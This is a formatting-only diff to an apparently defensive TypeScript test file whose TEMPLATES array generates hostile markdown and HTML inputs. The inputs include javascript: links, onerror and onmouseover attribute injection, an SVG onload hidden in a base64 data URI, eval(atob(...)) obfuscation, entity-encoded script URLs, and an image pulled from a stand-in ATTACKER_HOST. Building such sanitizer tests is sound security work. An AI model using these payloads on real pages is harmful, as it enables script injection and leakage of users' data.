@@ -137,7 +137,10 @@ const TEMPLATES: ReadonlyArray<readonly [HostileCategory, Template]> = [
   ['markdown image', (b) => `![pixel][img]\n\n[img]: ${b.url}.gif`],
   ['markdown image', (b) => `[![pixel](${b.url}.png)](javascript:${b.call})`],
   ['markdown image', (b) => `![x" onerror="${b.call}](${b.url}.png)`],
-  ['markdown image', (b) => `![svg](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${b.call}"/>`).toString('base64')})`],
+  [
+    'markdown image',
+    (b) => `![svg](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${b.call}"/>`).toString('base64')})`,
+  ],
   ['markdown image', (b) => `![](//${ATTACKER_HOST}/${b.id}.png)`],
   ['markdown link', (b) => `[click](https://ok.example "title\\" onmouseover=\\"${b.call}")`],
   ['markdown link', (b) => `[click](https://ok.example/"onmouseover="${b.call})`],
@@ -166,7 +169,10 @@ const TEMPLATES: ReadonlyArray<readonly [HostileCategory, Template]> = [
   ['encoding trick', (b) => `%3Cscript%3E${b.call}%3C%2Fscript%3E`],
   ['encoding trick', (b) => `\\<script\\>${b.call}\\</script\\>`],
   ['encoding trick', (b) => `<img src=x onerror=eval(atob('${Buffer.from(b.call).toString('base64')}'))>`],
-  ['encoding trick', (b) => `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${b.call}">entities</a>`],
+  [
+    'encoding trick',
+    (b) => `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${b.call}">entities</a>`,
+  ],
 ];
 
 function bait(id: string): Bait {
